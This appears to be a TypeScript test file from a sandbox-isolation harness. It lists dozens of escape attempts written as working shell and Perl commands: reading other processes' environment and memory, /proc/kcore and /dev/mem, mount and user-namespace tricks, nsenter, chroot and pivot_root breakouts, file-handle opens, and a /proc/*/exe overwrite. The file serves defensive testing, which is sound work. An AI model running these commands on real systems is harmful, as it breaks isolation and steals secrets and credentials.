import { agent } from "../../../harness/attacks/attack.ts";
import { FIND_TASKD, FIND_VICTIM, onControl } from "./scripts.ts";

const HEX = "-An -v -tx1 -N64";
const PLAIN = "| tr -d ' \\n'";

/** On the control nothing of /run is seen any more: only what the attack gains shows it. */
const WHERE_HIDDEN = (attack: string) => onControl("unshare -m", "mount -t tmpfs x /run", attack);

/** What makes a child in namespaces of its own (`$p` is 0 in it), from nobody's hands: that child can mount only by what it got. */
const inNestedUsers = (clone: string) =>
  `perl -e 'syscall(117, 65534, 65534, 65534); ${clone}; if ($p == 0) { syscall(165, (my $s1 = "/run/piwork/workspace/other"), (my $s2 = "/mnt"), 0, 4096, 0); open(F, "<", "/mnt/secret.txt") and print <F>; exit } wait'`;

/** What every process has mounted: nothing of it is seen in the view of the machine's root. */
const MOUNTS = "cat /proc/[0-9]*/mountinfo";
const mountedAnywhere = (source: string) => ({
  measure: `${MOUNTS} | grep -c ${source}`,
  allowed: 0,
  meanwhile: true as const,
});

/** What is mounted where, namespaces, and the kernel's own files. */
export const mounts = [
  ...agent("proc", "token", [
    [
      "init-root",
      "looks through the root of the first process",
      "cat /proc/1/root/run/piwork/workspace/other/secret.txt",
      { essential: true },
    ],
    ["any-root", "looks through the root of every process", "cat /proc/[0-9]*/root/run/piwork/secret"],
    [
      "any-cwd",
      "looks through the working directory of every process",
      "cat /proc/[0-9]*/cwd/secret.txt",
      { essential: true },
    ],
    [
      "map-files",
      "reads a file without a name that another's process has mapped",
      `perl -e 'for (glob "/proc/[0-9]*/map_files/*") { (readlink) =~ m(^/tmp/unnamed) or next; open(F, "<", $_) and print <F> }'`,
    ],
    ["environ", "reads the environment of every process", "cat /proc/[0-9]*/environ", { essential: true }],
    ["cmdline", "reads the arguments of every process", "cat /proc/[0-9]*/cmdline", { essential: true }],
    ["taskd-environ", "reads the environment of taskd", `${FIND_TASKD}; cat /proc/$t/environ`, { essential: true }],
    [
      "memory",
      "reads the memory of another's process",
      `${FIND_VICTIM}; perl -e 'my $p = shift; open(my $maps, "<", "/proc/$p/maps") or exit; open(my $mem, "<", "/proc/$p/mem") or exit; for (<$maps>) { /^(\\w+)-(\\w+) rw.*(heap|stack|0 $)/ or next; sysseek($mem, hex $1, 0); sysread($mem, my $b, 262144); print $b }' "$v"`,
    ],
    ["kmsg", "reads the kernel's log from /proc", "timeout 3 cat /proc/kmsg", { essential: true }],
    ["dev-kmsg", "reads the kernel's log from /dev", "timeout 3 cat /dev/kmsg"],
    ["syslog", "asks the kernel for its log", "dmesg"],
    ["kcore", "reads the machine's memory as a core", `od ${HEX} -j64 /proc/kcore ${PLAIN}`, { essential: true }],
    ["kcore-link", "reads the machine's memory through /dev/core", `ln -sf /proc/kcore c; od ${HEX} -j64 c ${PLAIN}`],
    ["dev-mem", "reads the machine's memory", `od ${HEX} -j983040 /dev/mem ${PLAIN}`],
    [
      "own-mem-device",
      "reads the machine's memory by a node of its own",
      `mount -o remount,dev /tmp; mknod /tmp/m c 1 1; od ${HEX} -j983040 /tmp/m ${PLAIN}; rm -f /tmp/m; mount -o remount,nodev /tmp`,
      { essential: true, undo: "mount -o remount,nodev /tmp" },
    ],
    ["kallsyms", "asks where the kernel's functions are", "grep -m1 ' T _stext' /proc/kallsyms"],
    ["iomem", "asks where the kernel lies in memory", "grep 'Kernel code' /proc/iomem"],
    [
      "masked-path",
      "takes away what covers a file of the kernel (CVE-2025-31133)",
      onControl(
        "unshare -m",
        "mount --bind /dev/null /proc/kcore",
        `umount /proc/kcore; od ${HEX} -j64 /proc/kcore ${PLAIN}`,
      ),
    ],
    ["disk", "reads the machine's disk", `od ${HEX} -j1024 /dev/vda ${PLAIN}`, { essential: true }],
    ["disk-by-root", "reads the machine's disk through another root", `od ${HEX} -j1024 /proc/1/root/dev/vda ${PLAIN}`],
    [
      "mountinfo",
      "reads names in the mounts of every process",
      "for p in /proc/[0-9]*; do while read -r _ _ _ r t _; do case $t in $VICTIM_SLOT/*) cat $t/secret.txt;; esac; done <$p/mountinfo; done",
    ],
    [
      "unix-names",
      "reads the names of sockets",
      "cat /proc/net/unix /proc/[0-9]*/net/unix | head -c 100000",
      { essential: true },
    ],
    [
      "keys",
      "finds keys in the kernel's list and reads them",
      `perl -e 'open(K, "<", "/proc/keys"); for (<K>) { /^(\\w+) .* user +piwork/ or next; $b = "\\0" x 64; syscall(250, 11, hex $1, $b, 64); print $b }'`,
    ],
  ]),
  ...agent("mounts", "token", [
    [
      "bind",
      "binds another folder over one of its own",
      "mkdir m; mount --bind /run/piwork/workspace/other m; cat m/secret.txt; umount m",
      { essential: true },
    ],
    [
      "share",
      "mounts the share of the host itself",
      "mkdir /tmp/m; mount -t 9p -o trans=virtio,version=9p2000.L workspace /tmp/m && cat /tmp/m/other/secret.txt; umount /tmp/m; rmdir /tmp/m",
      {
        held: { by: "guest" },
        dead: "a share is mounted once: the machine holds it, and QEMU's device refuses a second",
      },
    ],
    [
      "tree",
      "copies a tree of mounts by the newer calls",
      'mkdir /tmp/m; perl -e \'$fd = syscall(428, -100, (my $s2 = "/run/piwork/workspace/other"), 1); exit if $fd < 0; syscall(429, $fd, (my $s2 = ""), -100, (my $s4 = "/tmp/m"), 4)\'; cat /tmp/m/secret.txt; umount /tmp/m; rmdir /tmp/m',
    ],
    [
      "new-file-system",
      "makes a file system by the newer calls",
      'perl -e \'$fs = syscall(430, (my $s1 = "proc"), 0); exit if $fs < 0; syscall(431, $fs, 6, 0, 0, 0); $m = syscall(432, $fs, 0, 0); open(F, "<", "/proc/self/fd/$m/1/root/run/piwork/secret"); print <F>\'',
    ],
    [
      "proc-again",
      "mounts another /proc",
      "mkdir /tmp/m; mount -t proc proc /tmp/m; cat /tmp/m/1/root/run/piwork/secret; umount /tmp/m; rmdir /tmp/m",
    ],
    [
      "umount",
      "takes mounts away to see what is below",
      WHERE_HIDDEN("umount -l /work /outputs /uploads /home/task /run /proc; cat /run/piwork/secret"),
      { essential: true },
    ],
    [
      "nested-user",
      "becomes root of a user namespace and mounts",
      "unshare -Urm sh -c 'mount --bind /run/piwork/workspace/other /mnt; cat /mnt/secret.txt'",
    ],
    [
      "nested-clone",
      "makes a user namespace by clone, and mounts in it",
      inNestedUsers("$p = syscall(56, 0x10020011, 0, 0, 0, 0)"),
      { essential: true },
    ],
    [
      "nested-clone3",
      "makes a user namespace by clone3, and mounts in it",
      inNestedUsers('$a = pack("Q11", 0x10020000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0); $p = syscall(435, $a, 88)'),
    ],
    [
      "setns-init",
      "joins the mounts of the first process",
      WHERE_HIDDEN("nsenter -t 1 -m cat /run/piwork/secret"),
      { essential: true },
    ],
    [
      "setns-any",
      "joins the mounts of another's process",
      `${FIND_VICTIM}; nsenter -t "$v" -U -m --preserve-credentials cat /tmp/secret`,
    ],
    [
      "setns-pidfd",
      "joins all namespaces of a process at once",
      WHERE_HIDDEN(
        `perl -e '$fd = syscall(434, 1, 0); exit if $fd < 0; syscall(308, $fd, 0x4c020000) == 0 or exit; open(F, "<", "/run/piwork/secret") and print <F>'`,
      ),
    ],
    [
      "pivot-root",
      "takes another root",
      'for n in "unshare -m" "unshare -Urm"; do mkdir -p /tmp/m; $n sh -c "mount --bind /run/piwork/workspace/other /tmp/m; cd /tmp/m; /usr/sbin/pivot_root . deep; read -r line </secret.txt && echo \\$line"; done; rmdir /tmp/m',
      { essential: true },
    ],
    [
      "chroot",
      "breaks out of a root of its own",
      'mkdir d; perl -e \'opendir(D, "."); chroot("d"); exit if -e "/run/piwork"; chdir(D); chdir("..") for 1..20; open(F, "<", "run/piwork/secret") and print <F>\'',
      { essential: true },
    ],
    [
      "handle",
      "opens a file by its handle",
      'perl -e \'$h = pack("Ii", 128, 0) . "\\0" x 128; $m = pack("i", 0); syscall(303, -100, (my $s2 = "/run/piwork/secret"), $h, $m, 0); open(D, "<", "/run"); $fd = syscall(304, fileno(D), $h, 0); exit if $fd < 0; open(F, "<&=", $fd); print <F>\'',
      { essential: true },
    ],
    [
      "handle-guessed",
      "guesses the handle of a file in /tmp",
      'perl -e \'open(D, "<", "/proc/1/root/tmp"); $h = pack("Ii", 128, 0) . "\\0" x 128; $m = pack("i", 0); syscall(303, -100, (my $s2 = "/proc/1/root/tmp/secret"), $h, $m, 0); $fd = syscall(304, fileno(D), $h, 0); exit if $fd < 0; open(F, "<&=", $fd); print <F>\'',
    ],
  ]),
  ...agent("mounts", "guest-change", [
    [
      "mounted",
      "mounts something in its own view",
      "mkdir -p /tmp/m; mount -t tmpfs piwork-mounted /tmp/m; sleep 1.5",
      { oracle: "excess", excess: mountedAnywhere("piwork-mounted") },
    ],
    [
      "remounted",
      "makes its uploads writable",
      "u=/uploads; [ -e $u/upload.txt ] || { u=/tmp/u; mkdir $u; mount --bind /run/piwork/tasks/attacker*/guest/uploads $u; mount -o remount,ro,bind $u; }; mount -o remount,rw,bind $u; touch $u/new; [ $u = /uploads ] || { umount $u; rmdir $u; }",
      { essential: true, oracle: "change" },
    ],
    [
      "attribute",
      "changes what a mount allows",
      `mkdir -p /tmp/m; mount -t tmpfs -o nosuid piwork-tamed /tmp/m; for d in /tmp/m /tmp; do perl -e '$a = pack("QQQQ", 0, 2, 0, 0); syscall(442, -100, $ARGV[0], 0, $a, 32)' $d; done; sleep 1.5`,
      {
        oracle: "excess",
        excess: { ...mountedAnywhere("piwork-tamed"), measure: `${MOUNTS} | grep piwork-tamed | grep -vc nosuid` },
      },
    ],
    [
      "own-binary",
      "overwrites the program that runs it (CVE-2019-5736)",
      "for p in /proc/[0-9]*/exe; do echo x >>$p; done",
      { held: { by: "guest" }, dead: "the machine's programs lie on a file system that cannot be written" },
    ],
    [
      "etc",
      "covers /etc with its own",
      "mount -t tmpfs piwork-etc /etc && echo x >/etc/hosts; sleep 1.5",
      { oracle: "excess", excess: mountedAnywhere("piwork-etc") },
    ],
  ]),
];
